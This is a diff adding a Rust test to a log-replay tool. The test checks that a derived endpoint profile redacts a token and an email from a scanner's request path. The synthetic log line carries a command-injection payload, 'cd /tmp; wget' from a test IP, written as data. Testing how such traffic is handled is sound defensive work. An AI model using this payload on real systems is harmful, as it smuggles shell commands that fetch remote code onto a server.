@@ -253,3 +253,29 @@ fn a_format_nobody_named_is_read_loosely_and_says_so() {
     assert_eq!(out.status.code(), Some(2));
     assert!(text(&out.stderr).contains("read loosely, fewer than 85% of lines hold a time and a quoted request"), "{}", text(&out.stderr));
 }
+
+#[test]
+fn a_scanners_payload_keeps_the_paths_secrets_out_of_its_example() {
+    // A shell payload for a query key sends the line to the tail, replayed from its example: the
+    // token and the address in its path are replaced there as on any other endpoint.
+    let jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlLXNlY3JldA";
+    let line = |second: u32, target: &str| {
+        format!("203.0.113.9 - - [04/Dec/2026:10:00:{second:02} +0000] \"GET {target} HTTP/1.1\" 404 12 \"-\" \"zgrab\"\n")
+    };
+    let log =
+        [line(1, &format!("/reset/{jwt}/bob@example.org?cd+/tmp;wget+http://203.0.113.9/x")), line(2, "/users/42"), line(3, "/users/43")]
+            .concat();
+    let out = replay(&["derive", "-", "--format", "combined"], log.as_bytes());
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    let profile = text(&out.stdout);
+    assert!(!profile.contains(jwt) && !profile.contains("bob@example.org"), "{profile}");
+    let parsed: serde_json::Value = serde_json::from_str(&profile).unwrap();
+    let examples: Vec<&str> = parsed["endpoints"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .flat_map(|e| e["examples"].as_array().into_iter().flatten())
+        .filter_map(|x| x.as_str())
+        .collect();
+    assert!(examples.iter().any(|x| *x == "/reset/{token}/{email}?cd+/tmp;wget+http://203.0.113.9/x"), "{examples:?}");
+}
